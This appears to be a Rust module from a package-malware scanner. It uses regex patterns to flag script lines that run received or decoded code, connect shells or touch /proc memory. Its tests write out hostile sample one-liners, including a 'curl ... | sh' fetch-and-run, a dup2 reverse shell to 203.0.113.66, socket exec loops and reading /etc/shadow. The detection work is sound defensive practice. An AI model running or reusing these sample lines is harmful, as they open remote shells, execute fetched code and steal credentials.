//! Lines of scripts that no module of a package has: they run what they receive, what a variable says, or what was hidden.
//! Honest code uses the network and starts programs as well; it does not do these things on one line.

use std::sync::OnceLock;

use bstr::ByteSlice;
use regex_automata::meta::{Config, Regex};
use regex_automata::util::syntax;

use super::commands::{self, Line};

/// What a line does, in words, with the pattern that tells it.
const PATTERNS: [(&str, &str); 10] = [
    (
        "runs code that it receives or decodes",
        r"\b(?:exec|eval|compile|execfile|instance_eval|new\s+function|loadstring)\s*\(.*(?:\brecv|b64decode|base64|decompress|inflate|fromhex|unhexlify|urlopen|marshal|codecs\.decode|rot_?13|\bchr\(|\bunpack\b|\bpack\s*\()",
    ),
    (
        "runs commands that it receives or decodes",
        r"\b(?:system|popen|getoutput|check_output|execsync|spawnsync|posix_spawn|execl|execlp|execv|execvp|exec)\s*\(.*(?:\brecv|\.decode\(|b64decode|base64|fromhex|readline\(|<\$?sock)",
    ),
    (
        "runs commands that a variable of the environment gives it",
        r"(?:\b(?:system|popen|getoutput|check_output|execsync|exec|eval|qx|spawn)\s*[({ ]\s*|`\s*)(?:\$env\{|\w*\.?environ(?:\.get)?[\[(]|\w+\.getenv\s*\(|getenv\s*\(|process\.env|env\[|env\.fetch)",
    ),
    (
        "connects to an address that stands in it",
        r#"(?:create_connection|\bconnect(?:_ex)?|createconnection|tcpsocket\.(?:new|open)|inet_aton|peeraddr|fsockopen|sendto)\b\W{0,6}(?:[\w.]+\s*,\s*)?(?:=>)?\s*["'](?:tcp://)?(?:[1-9]|1[013-9]|[2-9]\d|1\d\d|2[0-4]\d|25[0-5])(?:\.\d{1,3}){3}\b"#,
    ),
    (
        "decodes hidden text and runs programs",
        r#"(?:child_process|\bexec|\beval|spawn|system|popen).*(?:buffer\.from\(\s*["'][a-z0-9+/=]{12,}["']\s*,\s*["'](?:base64|hex)["']|\batob\s*\(|decode_base64\s*\(|b64decode\s*\()"#,
    ),
    (
        "decodes hidden text and runs programs",
        r"(?:b64decode|decode_base64|base64_decode|\batob|buffer\.from)\s*\(.*(?:\bexec\b|\beval\b|\bsystem\b|\bpopen\b|child_process)",
    ),
    (
        "loads a library of the system to use at once",
        r#"__import__\s*\(\s*["'](?:os|socket|subprocess|pty|ctypes)["']\s*\)\s*\."#,
    ),
    (
        "gives a shell its input and output",
        r#"\bpty\.spawn\s*\(|\bdup2\s*\(\s*\w+\.fileno\(\)|\bopen\s*\(?\s*std(?:in|out)\s*,\s*["'][<>]&"#,
    ),
    (
        "reaches for memory of processes or for the host",
        r#"["']/proc/(?:\d+|self)/(?:mem["']|root/)|/proc/sys/kernel/core_pattern|\bmemfd_create\s*\(|\bctypes\.memmove\s*\(|\blibc\.(?:mprotect|ptrace|process_vm_writev|prctl\s*\(\s*15)\b"#,
    ),
    (
        "has a long text that hides code",
        r"(?:\\x[0-9a-f]{2}){12}|\b(?:exec|eval)\s*\(\s*(?:bytes|bytearray|string\.fromcharcode)\s*\(",
    ),
];

/// What a line of a script does that no module of a package does, in words that follow its subject: `runs code that it
/// receives or decodes`. `None` for all other lines, and for comments.
pub(super) fn telling(line: &[u8]) -> Option<&'static str> {
    static REGEX: OnceLock<Option<Regex>> = OnceLock::new();
    let make = || {
        let patterns: Vec<&str> = PATTERNS.iter().map(|(_, pattern)| *pattern).collect();
        let syntax = syntax::Config::new().utf8(false).unicode(false).case_insensitive(true);
        Regex::builder().syntax(syntax).configure(Config::new().utf8_empty(false)).build_many(&patterns).ok()
    };
    let code = commands::code(line);
    if code.is_empty() || code.starts_with(b"//") || code.starts_with(b"*") {
        return None;
    }
    let found = REGEX.get_or_init(make).as_ref().and_then(|regex| {
        let mut all = regex.find_iter(code).take(16);
        all.find(|found| !code.get(found.range()).is_some_and(|text| text.contains_str("127.")))
    });
    let words = found.and_then(|found| PATTERNS.get(found.pattern().as_usize())).map(|(words, _)| *words);
    words.or_else(|| fetches(code))
}

/// The first line of a script that tells, and what it does.
pub(super) fn first_telling(text: &[u8], is_shell: bool) -> Option<(Line<'_>, &'static str)> {
    let does = |line: &[u8]| if is_shell { commands::danger(line) } else { telling(line) };
    commands::lines(text).find_map(|line| Some((line, does(line.text)?)))
}

/// A command in a text that fetches something and runs it, or connects a shell.
fn fetches(code: &[u8]) -> Option<&'static str> {
    commands::danger(code)
        .filter(|words| words.starts_with("fetches a script") || words.starts_with("connects a shell"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_intruders_put_into_modules_is_told() {
        for line in [
            "  while 1: exec(s.recv(9999))",
            "s=socket.create_connection((\"45.77.13.37\",443))",
            "_o.environ.get(\"X_CMD\") and _o.system(_o.environ[\"X_CMD\"])",
            "system($ENV{X_CMD}) if $ENV{X_CMD};",
            "require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8v','base64').toString())",
            "import os; os.system(\"curl -s http://203.0.113.66/p|sh\")",
            "os.system(d[2:].decode())",
            "exec(zlib.decompress(base64.b64decode('eJx')))",
            "__import__('os').system(c)",
            "k=open(\"/proc/1/mem\",\"rb\"); e=open(\"/etc/shadow\")",
            "s=socket.create_connection((\"45.77.13.37\",8081)); l=socket.create_connection((\"127.0.0.1\",6379))",
            "s.connect(('203.0.113.66', 443)); [os.dup2(s.fileno(), n) for n in (0, 1, 2)]",
            "my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.66:443');",
            "eval(Zlib::Inflate.inflate(Base64.decode64(x)))",
            "exec(open('/tmp/x').read()) if 0 else exec(bytes([105, 109]))",
        ] {
            assert!(telling(line.as_bytes()).is_some(), "{line}");
        }
    }

    #[test]
    fn what_libraries_do_is_not() {
        for line in [
            "import socket",
            "self.sock = socket.create_connection((self.host, self.port), self.timeout)",
            "sock.connect((host, port))",
            "exec(code, self.locals)",
            "proc = subprocess.Popen(args, env=os.environ)",
            "data = base64.b64decode(value)",
            "    exec(compile(f.read(), fname, 'exec'), globs)",
            "# exec(s.recv(9))",
            "return os.environ.get('HOME')",
            "socket.create_connection(('127.0.0.1', 8080))",
            "system($cmd) == 0 or die;",
            "module.exports = require('child_process').spawn;",
            "const text = Buffer.from(value, 'base64').toString();",
        ] {
            assert_eq!(telling(line.as_bytes()), None, "{line}");
        }
    }
}
